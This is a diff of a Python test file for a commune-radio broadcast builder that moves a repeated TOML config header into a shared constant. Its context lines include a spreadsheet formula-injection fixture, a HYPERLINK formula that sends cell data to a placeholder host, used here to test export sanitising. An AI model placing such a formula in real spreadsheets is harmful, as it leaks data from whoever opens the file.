@@ -22,6 +22,17 @@ FEB28, FEB29 = dt.date(2028, 2, 28), dt.date(2028, 2, 29)
 HOSTILE_SOURCE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm") \\| nguồn'
 HOSTILE_NAME = '+84 Đài "Hòa Phú" @xã'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HEAD = '''
+[general]
+data_dir = "data"
+
+[[feeds]]
+name = "tinh"
+url = "tin.xml"
+
+[tts]
+engine = "espeak"
+'''
 
 
 def at(day: dt.date, hour: int = 5) -> dt.datetime:
@@ -48,22 +59,11 @@ id = "ea-kao"
 name = "Đài truyền thanh xã Ea Kao"
 target_minutes = 1
 '''
-    head = '''
-[general]
-data_dir = "data"
-
-[[feeds]]
-name = "tinh"
-url = "tin.xml"
-
-[tts]
-engine = "espeak"
-'''
     path = root / "broadcast.toml"
-    path.write_text(head + stations, encoding="utf-8")
+    path.write_text(HEAD + stations, encoding="utf-8")
     out = root / "audio_out"
     assert not api.build(load_config(path), out, FEB28, at(FEB28), jobs=1).failed
-    path.write_text(head + stations + joined, encoding="utf-8")
+    path.write_text(HEAD + stations + joined, encoding="utf-8")
     config = load_config(path)
     assert not api.build(config, out, FEB29, at(FEB29), jobs=1).failed
     return config
@@ -146,17 +146,7 @@ def test_office_formats_drop_control_characters_instead_of_failing():
 
 def test_a_notice_of_several_paragraphs_is_counted_at_its_priority(tmp_path):
     shutil.copy(DATA / "demo-feed.xml", tmp_path / "tin.xml")
-    (tmp_path / "broadcast.toml").write_text('''
-[general]
-data_dir = "data"
-
-[[feeds]]
-name = "tinh"
-url = "tin.xml"
-
-[tts]
-engine = "espeak"
-
+    (tmp_path / "broadcast.toml").write_text(HEAD + '''
 [[stations]]
 id = "hoa-phu"
 name = "Đài truyền thanh xã Hòa Phú"
